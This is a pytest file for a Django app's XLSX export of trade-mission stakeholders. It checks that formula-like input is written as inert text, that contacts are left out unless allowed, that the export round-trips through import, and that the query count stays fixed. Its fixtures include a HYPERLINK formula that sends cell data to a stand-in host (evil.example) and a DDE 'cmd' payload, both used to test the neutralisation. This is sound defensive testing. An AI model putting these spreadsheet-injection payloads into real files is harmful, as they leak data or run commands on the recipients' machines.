"""The XLSX export: every stakeholder, contacts only when allowed, formulas neutralised."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.factories import ContactFactory, MissionFactory, StakeholderFactory
from trademission.participants.domain.stakeholders import import_stakeholders
from trademission.participants.interfaces.spreadsheet_safety import neutralise
from trademission.participants.interfaces.stakeholder_import import (
    build_preview,
    guess_mapping,
    read_table,
)
from trademission.participants.interfaces.xlsx import stakeholders_workbook

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def load(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_formula_like_text_is_written_as_inert_text():
    mission = MissionFactory()
    entry = StakeholderFactory(
        mission=mission,
        organisation__name=EVIL,
        needs="+cmd|' /C calc'!A0",
        keywords=["@SUM(1,2)", "radar"],
        latitude=45.5,
        longitude=-73.6,
    )
    ContactFactory(stakeholder=entry, name="-2+3", email="a@b.ca", phone="+1 514 555 0100")
    workbook = load(stakeholders_workbook(mission, with_contacts=True))
    sheet = workbook["Stakeholders"]
    header = [cell.value for cell in sheet[1]]
    row = {h: cell for h, cell in zip(header, sheet[2], strict=True)}
    assert row["Organisation"].value == "'" + EVIL
    assert row["Organisation"].data_type == "s"
    assert row["Needs"].value == "'+cmd|' /C calc'!A0"
    assert row["Keywords"].value == "'@SUM(1,2); radar"
    assert (row["Latitude"].value, row["Longitude"].value) == (45.5, -73.6)
    assert row["Longitude"].data_type == "n"
    contacts = workbook["Contacts"]
    assert [cell.value for cell in contacts[2]][:5] == [
        "'" + EVIL,
        "'-2+3",
        None,
        "a@b.ca",
        "'+1 514 555 0100",
    ]
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f"


def test_contacts_are_left_out_unless_allowed():
    mission = MissionFactory()
    ContactFactory(stakeholder=StakeholderFactory(mission=mission), name="Julie Ferland")
    workbook = load(stakeholders_workbook(mission, with_contacts=False))
    assert workbook.sheetnames == ["Stakeholders"]
    text = " ".join(str(cell.value) for row in workbook["Stakeholders"].iter_rows() for cell in row)
    assert "Julie Ferland" not in text


def test_export_can_be_imported_into_another_mission(tmp_path):
    source = MissionFactory()
    StakeholderFactory(
        mission=source,
        organisation__name="CAE",
        organisation__website="https://www.cae.com",
        type="university",
        city="Montréal",
        keywords=["simulation", "training"],
        languages=["en", "fr"],
        available_days=["2023-05-30"],
        meeting_place="trade_show",
        latitude=45.48,
        longitude=-73.719,
    )
    path = tmp_path / "export.xlsx"
    path.write_bytes(stakeholders_workbook(source, with_contacts=True))
    target = MissionFactory()
    table = read_table(path)
    preview = build_preview(table, guess_mapping(table.headers), target)
    assert preview.issues == []
    assert import_stakeholders(target, preview.rows).created == 1
    copy = target.stakeholders.get()
    assert copy.organisation.name == "CAE"
    assert (copy.type, copy.city, copy.meeting_place) == ("university", "Montréal", "trade_show")
    assert (copy.keywords, copy.languages, copy.available_days) == (
        ["simulation", "training"],
        ["en", "fr"],
        ["2023-05-30"],
    )
    assert (copy.latitude, copy.longitude) == (45.48, -73.719)


def _export_queries(mission):
    with CaptureQueriesContext(connection) as ctx:
        stakeholders_workbook(mission, with_contacts=True)
    return len(ctx.captured_queries)


def test_export_query_count_does_not_grow_with_rows():
    mission = MissionFactory()
    ContactFactory(stakeholder=StakeholderFactory(mission=mission))
    one = _export_queries(mission)
    for _ in range(2):
        ContactFactory(stakeholder=StakeholderFactory(mission=mission))
    assert _export_queries(mission) == one == 2


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (-73.5, -73.5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected
